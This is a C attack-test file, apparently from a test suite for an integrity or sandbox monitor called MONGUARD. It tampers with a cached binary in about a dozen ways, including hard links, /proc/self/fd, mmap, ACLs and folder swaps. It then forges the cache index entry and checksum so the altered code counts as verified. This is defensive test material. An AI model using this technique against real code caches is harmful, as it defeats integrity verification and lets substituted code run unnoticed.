/* attack
class: file
aim: cache
expect: { none: contained, process: contained }
variants:
  - { args: [edit, fchmod], tries: "a copy with other code, and an index that vouches for it: changed in place", expect: { none: contained, process: contained, mpk: contained } }
  - { args: [override, nothing], tries: "a copy with other code, and an index that vouches for it: written to as root, the mode unchanged" }
  - { args: [link, chmod], tries: "a copy with other code, and an index that vouches for it: written to by another name" }
  - { args: [descriptor, fchmod], tries: "a copy with other code, and an index that vouches for it: written to by /proc/self/fd" }
  - { args: [replace, fchmod], tries: "a copy with other code, and an index that vouches for it: replaced" }
  - { args: [map, fchmodat2], tries: "a copy with other code, and an index that vouches for it: replaced by a shared mapping" }
  - { args: [truncate, fchmod], tries: "a copy with other code, and an index that vouches for it: emptied and written" }
  - { args: [folder, fchmod], tries: "a copy with other code, and an index that vouches for it: in a whole folder of its own" }
  - { args: [symlink, chmod], tries: "a copy with other code, and an index that vouches for it: in a folder that a link leads to" }
  - { args: [replace, open], tries: "a copy with other code, and an index that vouches for it: with its mode by open" }
  - { args: [replace, umask], tries: "a copy with other code, and an index that vouches for it: with its mode by umask" }
  - { args: [replace, mknod], tries: "a copy with other code, and an index that vouches for it: with its mode by mknod" }
  - { args: [replace, openat2], tries: "a copy with other code, and an index that vouches for it: with its mode by openat2" }
  - { args: [replace, acl], tries: "a copy with other code, and an index that vouches for it: with its mode by acl", expect: { none: contained, process: contained, mpk: contained } }
*/
/* Changes what the next launch runs: the copy of cache-victim in MONGUARD_CACHE gets other code, and the index says that it was verified so.
   The first argument says by which way the files are reached, the second how the new ones get the mode of the old ones. The harness
   launches cache-victim afterwards. */
#include "attack.h"
#include <dirent.h>
#include <stddef.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

static const char *way, *how;
static char folder[4096], copies[4200], copy[4600], index_path[4600];

static unsigned char *load(const char *path, size_t *bytes) {
    int fd = open(path, O_RDONLY);
    struct stat st;
    if (fd < 0 || fstat(fd, &st)) return NULL;
    unsigned char *all = malloc((size_t)st.st_size + 1);
    *bytes = (size_t)read(fd, all, (size_t)st.st_size);
    close(fd);
    return all;
}

static unsigned char *code_in(unsigned char *bytes, size_t size) {
    static const unsigned char code[] = {0xb8, 0x0d, 0x60, 0x0d, 0x60};
    return memmem(bytes, size, code, sizeof code);
}

/* The copy that holds the victim's code, and the index. */
static int find(void) {
    struct dirent *one;
    snprintf(copies, sizeof copies, "%s/copies", folder);
    DIR *list = opendir(copies);
    int found = 0;
    while (list && (one = readdir(list))) {
        size_t size = 0;
        char path[4600];
        snprintf(path, sizeof path, "%s/%s", copies, one->d_name);
        unsigned char *bytes = one->d_name[0] == '.' ? NULL : load(path, &size);
        if (bytes && code_in(bytes, size)) found = 1, strcpy(copy, path);
    }
    list = opendir(folder);
    while (list && (one = readdir(list)))
        if (strncmp(one->d_name, "index-", 6) == 0) snprintf(index_path, sizeof index_path, "%s/%s", folder, one->d_name);
    return found && index_path[0];
}

static void acl_of_owner(unsigned char text[28], unsigned rights) {
    const unsigned char made[28] = {2, 0, 0, 0, 1, 0, (unsigned char)rights, 0, 255, 255, 255, 255, 4, 0, 0, 0, 255, 255, 255, 255, 32, 0, 0, 0, 255, 255, 255, 255};
    memcpy(text, made, sizeof made);
}

/* A file of that mode, by the way that was asked for; -1 if there is none. */
static int make(const char *path, mode_t mode) {
    struct {
        uint64_t flags, mode, resolve;
    } by = {O_RDWR | O_CREAT | O_EXCL, mode, 0};
    if (strcmp(how, "openat2") == 0) return (int)syscall(SYS_openat2, AT_FDCWD, path, &by, sizeof by);
    if (strcmp(how, "umask") == 0) {
        umask(~mode & 0777);
        int fd = open(path, O_RDWR | O_CREAT | O_EXCL, mode | 0777);
        umask(022);
        return fd;
    }
    if (strcmp(how, "mknod") == 0) {
        if (mknod(path, S_IFREG | mode, 0)) return -1;
        return open(path, O_RDWR); /* as root; else nobody can write to it */
    }
    return open(path, O_RDWR | O_CREAT | O_EXCL, strcmp(how, "open") == 0 ? mode : 0600);
}

static void give(int fd, const char *path, mode_t mode) {
    unsigned char acl[28];
    if (strcmp(how, "fchmod") == 0) fchmod(fd, mode);
    if (strcmp(how, "chmod") == 0) chmod(path, mode);
    if (strcmp(how, "fchmodat2") == 0) syscall(452, fd, "", mode, AT_EMPTY_PATH);
    if (strcmp(how, "acl") == 0) {
        fchmod(fd, mode | 0700);
        acl_of_owner(acl, mode >> 6 & 7);
        fsetxattr(fd, "system.posix_acl_access", acl, sizeof acl, 0);
    }
}

/* The new content, by the way that was asked for. */
static void put(const char *path, const unsigned char *bytes, size_t size, mode_t mode) {
    char other[5000] = "", link[64];
    int fd = -1;
    if (strcmp(way, "edit") == 0) {
        chmod(path, 0600);
        fd = open(path, O_RDWR);
    } else if (strcmp(way, "override") == 0) {
        fd = open(path, O_RDWR); /* root writes whatever the mode says */
    } else if (strcmp(way, "link") == 0) {
        snprintf(other, sizeof other, "%s/../elsewhere", folder);
        if (linkat(AT_FDCWD, path, AT_FDCWD, other, 0)) return;
        chmod(other, 0600);
        fd = open(other, O_RDWR);
    } else if (strcmp(way, "descriptor") == 0) {
        int at = open(folder, O_RDONLY | O_DIRECTORY);
        int named = openat(at, path + strlen(folder) + 1, O_PATH);
        snprintf(link, sizeof link, "/proc/self/fd/%d", named);
        chmod(link, 0600);
        fd = open(link, O_RDWR);
    } else if (strcmp(way, "truncate") == 0) {
        if (chmod(path, 0600) == 0 && truncate(path, 0) == 0) fd = open(path, O_WRONLY);
    } else {
        unlink(path);
        fd = make(path, mode);
    }
    if (fd < 0) return;
    if (strcmp(way, "map") == 0) {
        if (ftruncate(fd, (off_t)size)) return;
        unsigned char *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        if (at != MAP_FAILED) memcpy(at, bytes, size), msync(at, size, MS_SYNC);
    } else if (pwrite(fd, bytes, size, 0) != (ssize_t)size) {
        return;
    }
    unlink(other); /* before the mode: its time of change counts */
    give(fd, path, mode);
    close(fd);
}

/* FNV-1a over words, as the index has it over all that follows its header. */
static uint32_t checksum(const unsigned char *bytes, size_t size) {
    uint32_t sum = 0x811c9dc5, word;
    for (; size >= 4; bytes += 4, size -= 4) {
        memcpy(&word, bytes, 4);
        sum = (sum ^ word) * 0x01000193;
    }
    return sum;
}

static uint64_t changed_ns(const struct stat *st) { return (uint64_t)st->st_ctim.tv_sec * 1000000000u + (uint64_t)st->st_ctim.tv_nsec; }

/* The four numbers by which the index knows a file. */
static void identity(const struct stat *st, uint64_t to[4]) { to[0] = st->st_dev, to[1] = st->st_ino, to[2] = (uint64_t)st->st_size, to[3] = changed_ns(st); }

int main(int argc, char **argv) {
    way = argc > 1 ? argv[1] : "edit";
    how = argc > 2 ? argv[2] : "fchmod";
    const char *cache = getenv("MONGUARD_CACHE");
    if (!cache) return 1;
    snprintf(folder, sizeof folder, "%s", cache);
    if (strcmp(way, "folder") == 0 || strcmp(way, "symlink") == 0) {
        /* The whole folder goes, and another one with the same files takes its place. */
        char old[4200], command[20000];
        snprintf(old, sizeof old, "%s-was", cache);
        snprintf(command, sizeof command, "cp -a '%s' '%s'; true", old, strcmp(way, "folder") == 0 ? cache : "own-cache");
        if (rename(cache, old) || system(command)) return 1;
        if (strcmp(way, "symlink") == 0 && symlink(realpath("own-cache", NULL), cache)) return 1;
    }
    if (!find()) return 1;
    struct stat before, of_index, after;
    uint64_t was[4], is[4];
    char original[5000];
    snprintf(original, sizeof original, "%s%s%s", cache, way[0] == 'f' || way[0] == 's' ? "-was" : "", copy + strlen(cache));
    size_t size, index_size, head = 88; /* of the index: cache_index_header */
    unsigned char *bytes = load(copy, &size), *index = load(index_path, &index_size);
    if (!bytes || !index || stat(original, &before) || stat(index_path, &of_index)) return 1;
    identity(&before, was);
    memcpy(code_in(bytes, size) + 1, "\xad\x0b\xad\x0b", 4);
    put(copy, bytes, size, before.st_mode & 07777);
    if (stat(copy, &after)) after = before;
    identity(&after, is);
    unsigned char *entry = memmem(index, index_size, was, sizeof was);
    if (!entry) return 1;
    memcpy(entry, is, sizeof is);
    uint32_t sum = checksum(index + head, index_size - head);
    memcpy(index + 8, &sum, 4);
    put(index_path, index, index_size, of_index.st_mode & 07777);
    printf("done\n");
    return 0;
}
